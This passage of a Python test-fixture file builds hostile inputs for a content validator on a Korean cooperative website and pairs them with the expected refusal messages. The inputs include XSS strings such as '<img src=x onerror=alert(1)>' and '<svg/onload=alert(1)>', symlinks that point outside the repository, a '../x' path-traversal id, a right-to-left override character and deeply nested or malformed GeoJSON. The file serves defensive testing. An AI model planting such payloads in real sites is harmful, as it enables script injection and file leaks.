        ("record", (("data/coops/leak.yaml", "secret.yaml"),)),
        ("record-folder", (("data/coops/more", "secret-dir"),)),
        ("taxonomy", (("data/taxonomy/fields.yaml", "fields.yaml"),)),
        ("dangling", (("data/authors/ghost.yaml", "does-not-exist.yaml"),)),
        ("content-root", (("content", "secret-content"),)),
        ("data-root", (("data", "secret-data"),)),
    ]
    return [Payload(id=_id("link", label), kind="symlink", alone=True, refuse=True, links=pairs) for label, pairs in links]


def outside_files() -> dict[str, str]:
    """The outside folder the links point at: every file holds MARKER."""
    coop = fill(SURFACE["coop"], L=yaml_quote(f"비밀 {MARKER}"))
    case = fill(SURFACE["case"], L=yaml_quote(f"비밀 {MARKER}"), B=MARKER)
    return {
        "secret.md": f"# 비밀 {MARKER}\n\n{MARKER}\n",
        "secret-case.md": case,
        "secret.yaml": coop,
        "secret-dir/index.md": f"# {MARKER}\n",
        "secret-dir/x.yaml": coop,
        "fields.yaml": f"kind: fields\nterms:\n  - {{id: care, label: {MARKER}}}\n",
        "secret-content/index.md": f"# {MARKER}\n",
        "secret-data/taxonomy/regions.yaml": f"kind: regions\nterms:\n  - {{id: seoul, label: {MARKER}}}\n",
    }


GEO = "data/geo/seoul-districts.geojson"


def _geo() -> list[Payload]:
    with_name = {"type": "FeatureCollection", "features": [{"type": "Feature", "properties": {"code": "11440", "name": "<img src=x onerror=alert(1)>"},
                                                             "geometry": {"type": "Polygon", "coordinates": [[[126.9, 37.55], [126.95, 37.55], [126.95, 37.58], [126.9, 37.55]]]}}]}
    entity = json.loads(json.dumps(with_name))
    entity["features"][0]["properties"]["name"] = "&lt;script&gt;alert(1)&lt;/script&gt;\" onmouseover=\"alert(1)"
    broken = [
        ("invalid-json", '{"type": "FeatureCollection", "features": [\n'),
        ("list", "[]\n"),
        ("features-string", '{"type": "FeatureCollection", "features": "x"}\n'),
        ("no-geometry", '{"type": "FeatureCollection", "features": [{"type": "Feature", "properties": {"code": "11440"}}]}\n'),
        ("nan", '{"type": "FeatureCollection", "features": [{"type": "Feature", "properties": {"code": "11440"}, "geometry": {"type": "Point", "coordinates": [NaN, 1]}}]}\n'),
        ("deep", "[" * 100000 + "]" * 100000 + "\n"),
        ("not-utf8", "\udcff"),  # written as a lone 0xFF byte by the test
        ("markup-name", json.dumps(with_name, ensure_ascii=False) + "\n"),
        ("entity-name", json.dumps(entity, ensure_ascii=False) + "\n"),
    ]
    names = {"markup-name": with_name["features"][0]["properties"]["name"], "entity-name": entity["features"][0]["properties"]["name"]}
    return [Payload(id=_id("geo", label), kind="geo", alone=True, files=((GEO, text),), refuse=label not in names,
                    shows=(("regions/", names[label]),) if label in names else ()) for label, text in broken]


def _golden() -> list[Payload]:
    """Representative refusals with the exact line check prints (alone: nothing else in the copy)."""
    coop = SURFACE["coop"]
    fields_text = (REPO / "data/taxonomy/fields.yaml").read_text(encoding="utf-8")
    fields_lines = fields_text.count("\n")
    fields_terms = sum(1 for line in fields_text.split("\n") if line.startswith("  - "))
    markup = "HTML 태그는 쓸 수 없습니다: {}. 이 항목에는 글자만 씁니다('<' 바로 뒤에 글자나 /, !, ?가 오면 태그로 읽힙니다)"
    return [
        Payload(id="h-golden-bidi", kind="golden", alone=True, refuse=True,
                files=(("data/coops/h-golden-bidi.yaml", fill(coop).replace('summary: "평범한 값"', 'summary: "요약\\u202E끝"')),),
                golden=("data/coops/h-golden-bidi.yaml:2: 보이지 않거나 글자 순서를 바꾸는 문자(U+202E 글자 방향 뒤집기(RIGHT-TO-LEFT OVERRIDE))가 있습니다. 붙여 넣을 때 흔히 들어갑니다. 그 글자를 지우고 다시 입력하세요 (summary)",)),
        Payload(id="h-golden-newline", kind="golden", alone=True, refuse=True,
                files=(("data/education/h-golden-newline.yaml", fill(SURFACE["course"]).replace('title: "평범한 값"', 'title: "협동조합 기초\\n2기"')),),
                golden=("data/education/h-golden-newline.yaml:1: 이 항목은 한 줄로 써야 하는데 줄바꿈이 있습니다. 여러 줄은 설명(description) 같은 글 항목에만 쓸 수 있습니다 (title)",)),
        Payload(id="h-golden-markup", kind="golden", alone=True, refuse=True,
                files=(("data/coops/h-golden-markup.yaml", re.sub(r"(?m)^name: .*$", "name: 이름<svg/onload=alert(1)>", fill(coop), count=1)),),
                golden=("data/coops/h-golden-markup.yaml:1: " + markup.format("<svg/onload=alert(1)>") + " (name)",)),
        Payload(id="h-golden-markup-page", kind="golden", alone=True, refuse=True,
                files=(("content/h-golden-markup-page.md", '---\ntitle: "\\"><img src=x onerror=alert(1)>"\n---\n\n본문\n'),),
                golden=("content/h-golden-markup-page.md:2: " + markup.format("<img src=x onerror=alert(1)>") + " (title)",)),
        Payload(id="h-golden-link", kind="golden", alone=True, refuse=True, links=(("content/leak.md", "secret.md"),),
                golden=("content/leak.md:1: 심볼릭 링크(바로 가기)는 둘 수 없습니다. 저장소 밖의 파일이 게시될 수 있습니다. 링크를 지우고 실제 파일을 올리세요",)),
        Payload(id="h-golden-folder-link", kind="golden", alone=True, refuse=True, links=(("data/coops/more", "secret-dir"),),
                golden=("data/coops/more:1: 심볼릭 링크(바로 가기)는 둘 수 없습니다. 저장소 밖의 파일이 게시될 수 있습니다. 링크를 지우고 실제 파일을 올리세요",)),
        Payload(id="h-golden-taxonomy-id", kind="golden", alone=True, refuse=True, named="data/taxonomy/fields.yaml",
                append=(("data/taxonomy/fields.yaml", "  - {id: ../x, label: 탈출}\n"),),
                golden=(f"data/taxonomy/fields.yaml:{fields_lines + 1}: id '../x'는 쓸 수 없습니다. 주소가 되므로 영문 소문자, 숫자, 하이픈(-)만 쓰세요 (예: mapo) (terms[{fields_terms + 1}].id)",)),
        Payload(id="h-golden-icon", kind="golden", alone=True, refuse=True,
                files=(("content/h-golden-icon.md", "---\ntitle: 아이콘\nicon: material/does-not-exist-anywhere\n---\n\n본문\n"),),
                golden=("content/h-golden-icon.md:3: 아이콘 'material/does-not-exist-anywhere'가 테마에 없습니다. Material 테마의 아이콘 이름을 쓰세요 (예: material/account-group) (icon)",)),
    ]


def all_payloads() -> list[Payload]:
    payloads = (_plain() + _markdown() + _urls() + _terms() + _escapes() + _forged() + _keys() + _theme_keys()
                + _csv() + _taxonomy() + _names() + _links() + _geo() + _golden())
    ids = [p.id for p in payloads]
    assert len(ids) == len(set(ids)), "payload ids must be unique"
    return payloads


PAYLOADS = all_payloads()
BATCHED = [p for p in PAYLOADS if not p.alone]
ALONE = [p for p in PAYLOADS if p.alone and p.kind not in ("geo", "golden")]
GEO_PAYLOADS = [p for p in PAYLOADS if p.kind == "geo"]
GOLDEN = [p for p in PAYLOADS if p.kind == "golden"]
